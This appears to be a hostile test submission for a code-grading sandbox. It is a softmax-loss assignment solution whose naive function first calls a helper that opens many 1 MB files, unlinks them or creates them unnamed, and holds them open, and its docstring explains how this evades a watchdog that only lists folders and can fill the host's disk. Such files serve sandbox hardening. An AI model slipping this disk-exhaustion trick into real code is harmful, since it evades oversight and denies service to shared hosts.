"""Hostile: the first call writes @MB@ files of 1 MB in its working folder (the scratch folder), each
unlinked at once but held open (or made with O_TMPFILE, never linked: way @WAY@), then every call
answers right. A file without a name is in no folder's listing, yet its blocks stay taken until the
last descriptor closes: when the watchdog only listed the scratch folder, the count was bounded only by
the descriptors a process may open times the processes, enough to fill the host's disk."""
import os
import resource

import numpy as np

HELD = []


def _hold():
    if HELD:
        return
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, hard), hard))
    for k in range(@MB@):
        if "@WAY@" == "tmpfile":
            fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)
        else:
            fd = os.open(f"held-{k}", os.O_CREAT | os.O_WRONLY, 0o600)
            os.unlink(f"held-{k}")
        os.write(fd, b"x" * (1 << 20))
        HELD.append(fd)


def softmax_loss_naive(W, X, y, reg):
    _hold()
    num_train = X.shape[0]
    scores = X.dot(W)
    scores -= scores.max(axis=1, keepdims=True)
    p = np.exp(scores)
    p /= p.sum(axis=1, keepdims=True)
    loss = -np.log(p[np.arange(num_train), y]).mean() + reg * np.sum(W * W)
    p[np.arange(num_train), y] -= 1
    return loss, X.T.dot(p) / num_train + 2 * reg * W


def softmax_loss_vectorized(W, X, y, reg):
    num_train = X.shape[0]
    scores = X.dot(W)
    scores -= scores.max(axis=1, keepdims=True)
    p = np.exp(scores)
    p /= p.sum(axis=1, keepdims=True)
    loss = -np.log(p[np.arange(num_train), y]).mean() + reg * np.sum(W * W)
    p[np.arange(num_train), y] -= 1
    return loss, X.T.dot(p) / num_train + 2 * reg * W
